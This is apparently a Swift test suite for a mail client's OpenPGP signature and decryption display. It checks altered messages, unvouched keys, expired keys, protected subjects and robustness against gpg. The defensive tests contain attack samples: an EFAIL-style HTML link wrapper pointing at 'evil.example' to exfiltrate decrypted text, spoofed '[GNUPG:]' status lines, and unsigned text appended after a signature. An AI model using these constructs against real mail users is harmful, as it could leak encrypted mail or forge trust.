import InternetMessage
import MailModel
import MessageSeals
import Synchronization
import TestKit
import Testing

extension Sealed {
    static func parsed(_ text: String) -> ParsedMessage { ParsedMessage(octets: Array(text.utf8)) }
}

extension OpenPGPKeys {
    var gnupg: GnuPG { GnuPG(limit: .seconds(60), environment: ["GNUPGHOME": home]) }
}

extension ReadableMessage {
    /// The text with the seals' edges in brackets.
    var outline: [String] {
        lines.filter { !$0.text.isEmpty }.map { line in
            if case .edge = line.kind { "[\(line.text)]" } else { line.text }
        }
    }

    var sentences: [String] { seals.map(\.sentence) }
}

@Suite("OpenPGP (RFC 3156)", .enabled(if: OpenPGPKeys.isInstalled))
final class OpenPGPTests {
    private let keys: OpenPGPKeys
    private let folders = Mutex<[TemporaryFolder]>([])

    init(keys: OpenPGPKeys = .shared) { self.keys = keys }

    private func read(_ message: String, with gpg: GnuPG? = nil, terminal: String? = nil) async -> ReadableMessage {
        let opener = SealOpener(gpg: gpg ?? keys.gnupg)
        return ReadableText.read(await opener.open(Sealed.parsed(message), terminal: terminal))
    }

    private func signed(by user: String, in place: String = "home", options: [String] = []) -> String {
        let signature = keys.signature(of: Sealed.text, by: user, in: place, options: options)
        return Sealed.signed(Sealed.text, signature)
    }

    // MARK: - Signatures

    @Test("a good signature names its author")
    func good() async {
        let message = Sealed.header() + signed(by: "ada@example.org")
        let read = await read(message)
        #expect(
            read.seals == [Seal(signature: .checked(.good(Signer(name: "Ada Lovelace", address: "ada@example.org"))))])
        #expect(read.sentences == ["Signed by Ada Lovelace <ada@example.org>"])
        #expect(read.outline == ["The engine is ready.", "Ada"])
        #expect(read.attachments.isEmpty)
        // From a file with its own line ends.
        let lines = await self.read(message.replacing("\r\n", with: "\n"))
        #expect(lines.seals == read.seals)
    }

    @Test("until somebody has looked, a seal says that somebody is looking")
    func underway() {
        let message = Sealed.parsed(Sealed.header() + Sealed.signed(Sealed.text, "x"))
        #expect(ReadableText.read(message).sentences == ["Checking the signature…"])
        #expect(ReadableText.read(message).outline == ["The engine is ready.", "Ada"])
        let secret = Sealed.parsed(Sealed.header() + Sealed.encrypted("x"))
        #expect(ReadableText.read(secret).sentences == ["Decrypting…"])
        #expect(ReadableText.read(secret).outline == [])
    }

    @Test(
        "an altered octet breaks it, wherever it is",
        arguments: [("engine is", "engine ls"), ("ready.\r\nAda", "ready.\r\nOda"), ("charset=utf-8", "charset=utf-9")])
    func altered(_ place: String, _ change: String) async {
        let message = Sealed.header() + signed(by: "ada@example.org")
        let changed = message.replacing(place, with: change)
        #expect(changed != message)
        #expect(await read(changed).sentences == ["The signature does not fit the message: one of them was altered"])
    }

    @Test("a key that only says that it is the author's is not taken for it")
    func unvouched() async {
        // Another key with the same name and address, which nobody here has signed.
        let read = await read(Sealed.header() + signed(by: "ada@example.org", in: "other"))
        #expect(
            read.seals.map(\.signature) == [
                .checked(.unvouched(Signer(name: "Ada Lovelace", address: "ada@example.org")))
            ])
    }

    @Test("somebody else's signature is told from the author's")
    func otherAddress() async {
        #expect(
            await read(Sealed.header() + signed(by: "eve@example.org", in: "other")).sentences
                == ["Signed, but by another address: Eve <eve@example.org>"])
        #expect(
            await read(Sealed.header(from: "eve@example.org") + signed(by: "ada@example.org")).sentences
                == ["Signed, but by another address: Ada Lovelace <ada@example.org>"])
    }

    @Test("without the key it can't be checked")
    func unknownKey() async throws {
        let read = await read(Sealed.header() + signed(by: "stranger@example.org", in: "other"))
        let key = try #require(keys.fingerprints(of: "stranger@example.org", in: "other").first?.suffix(16))
        #expect(read.sentences == ["Signed, but it can’t be checked: key 0x\(key) is not here"])
        #expect(read.outline == ["The engine is ready.", "Ada"])
    }

    @Test("a name that looks like what gpg says is a name")
    func fakeStatus() async {
        let user = "[GNUPG:] GOODSIG 0 Ada <ada@example.org>"
        let read = await read(Sealed.header(from: "eve@example.org") + signed(by: user))
        #expect(read.sentences == ["Signed, but by another address: [GNUPG:] GOODSIG 0 Ada <ada@example.org>"])
    }

    @Test("expired and withdrawn keys are told")
    func outOfDate() async {
        let own = OpenPGPTests(keys: OpenPGPKeys())
        own.keys.generate("Gone <gone@example.org>")
        let body = Sealed.header(from: "gone@example.org") + own.signed(by: "gone@example.org")
        #expect(await own.read(body).sentences == ["Signed by Gone <gone@example.org>"])

        own.keys.generateOld("Late <late@example.org>", validFor: "seconds=10")
        let late = own.signed(by: "late@example.org", options: OpenPGPKeys.inThePast)
        #expect(
            await own.read(Sealed.header(from: "late@example.org") + late).sentences
                == ["Signed by Late <late@example.org>, whose key has expired since"])

        let withdrawn = Sealed.header(from: "gone@example.org") + own.signed(by: "gone@example.org")
        own.keys.revoke("gone@example.org")
        #expect(
            await own.read(withdrawn).sentences
                == ["Signed with a key that Gone <gone@example.org> has withdrawn"])
    }

    @Test("a signature whose time is over is told")
    func expired() async {
        let own = OpenPGPTests(keys: OpenPGPKeys())
        own.keys.generateOld("Old <old@example.org>", validFor: "0")
        let old = own.signed(by: "old@example.org", options: OpenPGPKeys.inThePast + ["--default-sig-expire", "1d"])
        #expect(
            await own.read(Sealed.header(from: "old@example.org") + old).sentences
                == ["Signed by Old <old@example.org>, but the signature was valid for a time that is over"])
    }

    // MARK: - What stands around

    @Test("a list's footer is not signed, and stands apart")
    func footer() async {
        let message =
            Sealed.header()
            + Sealed.mixed([signed(by: "ada@example.org"), "Content-Type: text/plain\r\n\r\nUnsubscribe here"])
        let read = await read(message)
        #expect(read.seals.map(\.coversAll) == [false])
        #expect(
            read.outline == [
                "[Signed by Ada Lovelace <ada@example.org>]", "The engine is ready.", "Ada",
                "[the end of what is signed]", "Unsubscribe here",
            ])
    }

    @Test("what follows a signature inside its multipart is not signed either")
    func trailing() async {
        let signature = keys.signature(of: Sealed.text, by: "ada@example.org")
        let message =
            Sealed.header()
            + Sealed.signed(
                Sealed.text, signature, behind: "--sig\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n")
        let read = await read(message)
        #expect(read.seals.map(\.coversAll) == [false])
        #expect(read.outline.suffix(2) == ["[the end of what is signed]", "Send money."])
    }

    @Test("a signature of another kind than announced is not looked at")
    func mismatch() async {
        let signature = keys.signature(of: Sealed.text, by: "ada@example.org")
        let announced =
            Sealed.header() + Sealed.signed(Sealed.text, signature, protocolName: "application/pkcs7-signature")
        #expect(
            await read(announced).sentences
                == ["Signed, but it can’t be checked: the signature is not what the message says it is"])
        let unknown = Sealed.header() + Sealed.signed(Sealed.text, signature, protocolName: "application/x-mine")
        #expect(
            await read(unknown).sentences
                == ["Signed, but it can’t be checked: its kind of signature is not known here"])
        let missing =
            Sealed.header()
            + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=a\r\n\r\n--a\r\n\(Sealed.text)--a--\r\n"
        #expect(await read(missing).sentences == ["Signed, but it can’t be checked: the signature is missing"])
    }

    @Test("a signature that brings its own text signs nothing else")
    func embedded() async {
        let whole = keys.gpg(
            ["--armor", "--local-user", "ada@example.org", "--sign"], input: Array(Sealed.text.utf8))
        let message =
            Sealed.header()
            + Sealed.signed(Sealed.text.replacing("ready", with: "sold"), String(decoding: whole, as: UTF8.self))
        let tone = await read(message).seals.map(\.tone)
        #expect(tone == [.warning] || tone == [.bad])
    }

    // MARK: - Encryption

    @Test("what is encrypted to the user is shown, signed or not")
    func encrypted() async {
        let unsigned = await read(Sealed.header() + Sealed.encrypted(keys.encrypted(Sealed.text)))
        #expect(unsigned.sentences == ["Encrypted to you, unsigned"])
        #expect(unsigned.outline == ["The engine is ready.", "Ada"])
        #expect(unsigned.attachments.isEmpty)
        let signed = await read(
            Sealed.header() + Sealed.encrypted(keys.encrypted(Sealed.text, signedBy: "ada@example.org")))
        #expect(signed.sentences == ["Encrypted to you. Signed by Ada Lovelace <ada@example.org>"])
        #expect(signed.seals.map(\.tone) == [.good])
    }

    @Test("signed parts inside what is encrypted are checked, too")
    func nested() async {
        let inner = signed(by: "ada@example.org")
        let read = await read(Sealed.header() + Sealed.encrypted(keys.encrypted(inner)))
        #expect(read.sentences == ["Encrypted to you. Signed by Ada Lovelace <ada@example.org>"])
        #expect(read.outline == ["The engine is ready.", "Ada"])
        let partly = await self.read(
            Sealed.header()
                + Sealed.encrypted(
                    keys.encrypted(Sealed.mixed([inner, "Content-Type: text/plain\r\n\r\nNot signed."]))))
        #expect(partly.sentences == ["Encrypted to you, unsigned", "Signed by Ada Lovelace <ada@example.org>"])
        #expect(
            partly.outline == [
                "[Signed by Ada Lovelace <ada@example.org>]", "The engine is ready.", "Ada",
                "[the end of what is signed]", "Not signed.",
            ])
    }

    @Test("parts around an encrypted one never mix with it (EFAIL)")
    func exfiltration() async {
        let open = "Content-Type: text/html\r\n\r\n<p>Look:</p><a href=\"http://evil.example/?"
        let close = "Content-Type: text/html\r\n\r\n\">the picture</a><p>End</p>"
        let message = Sealed.header() + Sealed.mixed([open, Sealed.encrypted(keys.encrypted(Sealed.text)), close])
        let read = await read(message)
        #expect(read.seals.map(\.coversAll) == [false])
        let begin = read.outline.firstIndex(of: "[Encrypted to you, unsigned]") ?? -1
        let end = read.outline.firstIndex(of: "[the end of what is encrypted]") ?? -1
        #expect(
            begin >= 0
                && Array(read.outline[begin...end]) == [
                    "[Encrypted to you, unsigned]", "The engine is ready.", "Ada", "[the end of what is encrypted]",
                ])
        #expect(!read.links.contains { $0.contains("engine") })
    }

    @Test("attachments inside are listed, and can be had")
    func attachments() async throws {
        let inner = Sealed.mixed([
            "Content-Type: text/plain\r\n\r\nSee the plan.",
            "Content-Type: application/pdf; name=plan.pdf\r\nContent-Disposition: attachment\r\n\r\n%PDF",
        ])
        let message = Sealed.parsed(Sealed.header() + Sealed.encrypted(keys.encrypted(inner)))
        let opened = await SealOpener(gpg: keys.gnupg).open(message)
        let read = ReadableText.read(opened)
        #expect(read.attachments.map(\.number) == [":2"])
        #expect(read.attachments.map(\.fileName) == ["plan.pdf"])
        #expect(opened.decoded(number: ":2") == Array("%PDF".utf8))
        #expect(opened.decoded(number: ":9") == nil)
        let numbers = read.summary.structure?.flattened.map(\.number)
        #expect(numbers == ["", ":", ":1", ":2"])
    }

    @Test("a passphrase is never asked for unasked")
    func locked() async {
        let secret = keys.encrypted(Sealed.text, to: "bob@example.org")
        let read = await read(Sealed.header() + Sealed.encrypted(secret))
        #expect(read.seals == [Seal(encryption: .locked)])
        #expect(read.outline == [])
        #expect(read.attachments.map(\.fileName) == ["encrypted.asc"])
    }

    @Test("what is damaged, meant for others or not protected against changes stays closed")
    func closed() async {
        let toOther = keys.encrypted(Sealed.text, to: "stranger@example.org", in: "other")
        #expect(
            await read(Sealed.header() + Sealed.encrypted(toOther)).sentences
                == ["Encrypted, and can’t be decrypted: it is encrypted to a key that is not here"])
        var octets = keys.gpg(
            ["--recipient", "gone@example.org", "--encrypt"], input: Array(Sealed.text.utf8))
        octets[octets.count - 5] ^= 1
        let changed = await read(Sealed.header() + Sealed.encrypted(keys.armored(octets)))
        #expect(changed.seals.map(\.tone) == [.warning])
        #expect(changed.outline == [])
        let nothing = await read(Sealed.header() + Sealed.encrypted("no message"))
        #expect(nothing.sentences == ["Encrypted, and can’t be decrypted: it is damaged"])
        let clear = String(decoding: keys.gpg(["--armor", "--store"], input: Array(Sealed.text.utf8)), as: UTF8.self)
        let pretended = await read(Sealed.header() + Sealed.encrypted(clear))
        #expect(pretended.seals.map(\.tone) == [.warning], "what was never encrypted does not look as if it was")
        #expect(pretended.outline == [])
    }

    // MARK: - The protected subject

    @Test("the subject inside is shown, and what stood outside is told")
    func subject() async {
        let inner =
            "Content-Type: text/plain; hp=\"cipher\"\r\nSubject: The secret engine\r\nHP-Outer: Subject: [...]\r\n\r\nHello"
        let hidden = await read(Sealed.header(subject: "[...]") + Sealed.encrypted(keys.encrypted(inner)))
        #expect(hidden.summary.subject == "The secret engine")
        #expect(hidden.notices == ["the subject was encrypted, too"])
        let old = inner.replacing("hp=\"cipher\"", with: "protected-headers=\"v1\"")
        let other = await read(Sealed.header(subject: "Lunch") + Sealed.encrypted(keys.encrypted(old)))
        #expect(other.summary.subject == "The secret engine")
        #expect(other.notices == ["the subject outside is another one: “Lunch”"])
        // Without the mark it is a field like any other.
        let plain = inner.replacing("; hp=\"cipher\"", with: "")
        #expect(await read(Sealed.header() + Sealed.encrypted(keys.encrypted(plain))).summary.subject == "Engine")
    }

    @Test("a signed subject counts where the signature fits, and nowhere else")
    func signedSubject() async {
        let part = "Content-Type: text/plain; hp=\"clear\"\r\nSubject: The real one\r\n\r\nHello\r\n"
        let signature = keys.signature(of: part, by: "ada@example.org")
        let message = Sealed.header() + Sealed.signed(part, signature)
        #expect(await read(message).summary.subject == "The real one")
        #expect(await read(message.replacing("Hello", with: "Hullo")).summary.subject == "Engine")
    }

    // MARK: - Blocks in plain texts

    private func clearsigned(_ text: String) -> String {
        String(
            decoding: keys.gpg(
                ["--armor", "--local-user", "ada@example.org", "--clearsign"], input: Array(text.utf8)), as: UTF8.self)
    }

    @Test("a text that is signed without MIME is parted from its signature")
    func inline() async {
        let block = clearsigned("Grüße\n- a point\n")
        let header = Sealed.header() + "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        let message = await read(header + block)
        #expect(message.sentences == ["Signed by Ada Lovelace <ada@example.org>"])
        #expect(message.seals.map(\.coversAll) == [true])
        #expect(message.outline == ["Grüße", "- a point"])
        let changed = await read(header + block.replacing("point", with: "pound"))
        #expect(changed.sentences == ["The signature does not fit the message: one of them was altered"])
        let followed = await read(header + block + "\r\n____\r\nThe list\r\n")
        #expect(
            followed.outline == [
                "[Signed by Ada Lovelace <ada@example.org>]", "Grüße", "- a point", "[the end of what is signed]",
                "____",
                "The list",
            ])
        // Two of them are not one.
        let two = await read(header + block + "\r\n" + block)
        #expect(two.seals.map(\.coversAll) == [false])
        // A quotation of one is no block.
        #expect(await read(header + "He wrote:\r\n\r\n" + block).seals.isEmpty)
    }

    @Test("a text that is encrypted without MIME is opened")
    func inlineEncrypted() async {
        let header = Sealed.header() + "Content-Type: text/plain\r\n\r\n"
        let message = await read(header + keys.encrypted("Hello", signedBy: "ada@example.org"))
        #expect(message.sentences == ["Encrypted to you. Signed by Ada Lovelace <ada@example.org>"])
        #expect(message.outline == ["Hello"])
        let locked = await read(header + keys.encrypted("Hello", to: "bob@example.org"))
        #expect(locked.seals == [Seal(encryption: .locked)])
        #expect(locked.outline == [])
    }

    @Test("more seals than anybody needs are not looked at")
    func many() async {
        let part = Sealed.signed(Sealed.text, "x")
        let message = await read(
            Sealed.header() + Sealed.mixed(Array(repeating: part, count: 30)), with: GnuPG(program: "/nonexistent/gpg"))
        #expect(message.seals.count == 30)
        #expect(message.sentences.last == "Signed, but it can’t be checked: there are too many of them")
    }

    // MARK: - The program

    /// A gpg that says what it is told to, on standard output and on its status descriptor.
    private func fake(_ status: [String], output: String = "") -> GnuPG {
        let folder = TemporaryFolder("gpg")
        let says = status.map { "[GNUPG:] \($0)\n" }.joined()
        folder.write(says, to: "status")
        folder.write(output, to: "output")
        let program = folder.write(
            "#!/bin/sh\ncat >/dev/null\ncat \(folder.path)/status >&3\ncat \(folder.path)/output\n"
                + "echo 'gpg: Good signature from \"Ada <ada@example.org>\" [ultimate]' >&2\nexit 0\n",
            to: "gpg")
        _ = ChildProcess.run(["chmod", "700", program])
        folders.withLock { $0.append(folder) }
        return GnuPG(program: program)
    }

    private static let valid =
        "VALIDSIG AAAA 2026-11-26 1795677382 0 4 0 22 8 00 8A19B2E4252382C2FD72E96015F1D7579F4E0E20"

    @Test(
        "only what its status says counts, and only where it fits together",
        arguments: [
            ([], .warning), (["GOODSIG AA Ada <ada@example.org>"], .warning),
            (["NEWSIG", "GOODSIG AA Ada <ada@example.org>", "BADSIG AA Ada", valid], .bad),
            (["NEWSIG", "BADSIG AA Ada", "NEWSIG", "GOODSIG AA Ada <ada@example.org>", valid], .bad),
            (["NEWSIG", "GOODSIG AA Ada", "EXPSIG AA Ada", valid], .warning),
            (["GOODSIG AA Ada <ada@example.org>", valid.replacing(" 8 00 ", with: " 8 10 ")], .warning),
            (["PLAINTEXT 62 0 ", "GOODSIG AA Ada <ada@example.org>", valid], .warning),
            (["ERRSIG AA 22 8 00 1795677382 4 -"], .warning), (["TRUST_ULTIMATE 0 pgp"], .warning),
            (["GOODSIG AA x%0A[GNUPG:] GOODSIG 0 Ada <ada@example.org>", valid], .warning),
        ] as [([String], Seal.Tone)])
    func status(_ status: [String], _ tone: Seal.Tone) async {
        let read = await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: fake(status))
        #expect(read.seals.map(\.tone) == [tone])
    }

    private static let opened = [
        "ENC_TO AA 18 0", "BEGIN_DECRYPTION", "DECRYPTION_INFO 2 9 0", "PLAINTEXT 62 0 ", "DECRYPTION_OKAY",
        "END_DECRYPTION",
    ]

    @Test("a text is shown only where gpg says that it is whole, unchanged and all that was encrypted")
    func decryptionStatus() async {
        func outline(_ status: [String]) async -> [String] {
            await read(
                Sealed.header() + Sealed.encrypted("x"),
                with: fake(status, output: "Content-Type: text/plain\n\nSecret")
            ).outline
        }
        #expect(await outline(Self.opened) == ["Secret"])
        for missing in ["DECRYPTION_OKAY", "DECRYPTION_INFO 2 9 0", "PLAINTEXT 62 0 ", "BEGIN_DECRYPTION"] {
            #expect(await outline(Self.opened.filter { $0 != missing }) == [], "\(missing)")
        }
        // EFAIL: neither MDC nor AEAD.
        #expect(await outline(Self.opened.map { $0.replacing("INFO 2 9 0", with: "INFO 0 9 0") }) == [])
        #expect(await outline(Self.opened.map { $0.replacing("INFO 2 9 0", with: "INFO 0 9 2") }) == ["Secret"])
        #expect(await outline(Self.opened + ["DECRYPTION_FAILED"]) == [])
        #expect(await outline(["PLAINTEXT 62 0 "] + Self.opened) == [], "a text before the encrypted one")
        #expect(await outline(Self.opened + ["PLAINTEXT 62 0 "]) == [], "a text behind it")
        #expect(await outline(Self.opened + Self.opened) == [])
    }

    @Test("without gpg a sentence says so")
    func missing() async {
        let none = GnuPG(program: "/nonexistent/gpg")
        #expect(
            await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: none).sentences
                == ["Signed, but it can’t be checked: /nonexistent/gpg is not installed"])
        #expect(
            await read(Sealed.header() + Sealed.encrypted("x"), with: none).sentences
                == ["Encrypted, and can’t be decrypted: /nonexistent/gpg is not installed"])
    }

    @Test("a program that hangs, and all it has started, is ended")
    func hanging() async throws {
        let folder = TemporaryFolder("gpg")
        let program = folder.write("#!/bin/sh\nsleep 1000 & echo $! > \(folder.path)/child\nwait\n", to: "gpg")
        _ = ChildProcess.run(["chmod", "700", program])
        let slow = GnuPG(program: program, limit: .seconds(1))
        #expect(
            await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: slow).sentences
                == ["Signed, but it can’t be checked: gpg has not answered for 1 s"])
        let child = String(decoding: TestFiles.octets(of: folder.path + "/child") ?? [], as: UTF8.self).trimming()
        // It may wait to be buried, which is its new parent's affair.
        try await waitUntil {
            let state = TestFiles.octets(of: "/proc/\(child)/stat").map { String(decoding: $0, as: UTF8.self) }
            return state?.contains(") Z") ?? true
        }
    }

    @Test("a program that writes without end is stopped, and one that reads nothing does no harm")
    func talkative() async {
        let folder = TemporaryFolder("gpg")
        let endless = folder.write(
            "#!/bin/sh\nexec yes '[GNUPG:] GOODSIG 0 Ada <ada@example.org>' >&3\n", to: "endless")
        let deaf = folder.write("#!/bin/sh\nexec </dev/null\nexit 0\n", to: "deaf")
        _ = ChildProcess.run(["chmod", "700", endless, deaf])
        #expect(
            await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: GnuPG(program: endless)).sentences
                == ["Signed, but it can’t be checked: it is larger than 256 MB"])
        let large = Sealed.text + String(repeating: "0123456789abcdef\r\n", count: 100_000)
        #expect(
            await read(Sealed.header() + Sealed.signed(large, "x"), with: GnuPG(program: deaf)).sentences
                == ["Signed, but it can’t be checked: there is no signature in it"])
    }

    @Test("large texts go through whole")
    func large() async {
        let large = Sealed.text + String(repeating: "0123456789abcdef\r\n", count: 200_000)
        let signature = keys.signature(of: large, by: "ada@example.org")
        #expect(
            await read(Sealed.header() + Sealed.signed(large, signature)).sentences == [
                "Signed by Ada Lovelace <ada@example.org>"
            ])
    }

    @Test("a seal that nobody waits for any more is left")
    func cancelled() async {
        let folder = TemporaryFolder("gpg")
        let program = folder.write("#!/bin/sh\nexec sleep 1000\n", to: "gpg")
        _ = ChildProcess.run(["chmod", "700", program])
        let message = Sealed.parsed(Sealed.header() + Sealed.signed(Sealed.text, "x"))
        let task = Task { await SealOpener(gpg: GnuPG(program: program)).open(message) }
        task.cancel()
        let opened = await task.value
        #expect(
            opened.parts.isEmpty
                || ReadableText.read(opened).sentences == ["Signed, but it can’t be checked: interrupted"])
    }
}

extension String {
    fileprivate func trimming() -> String { filter { !$0.isWhitespace } }
}
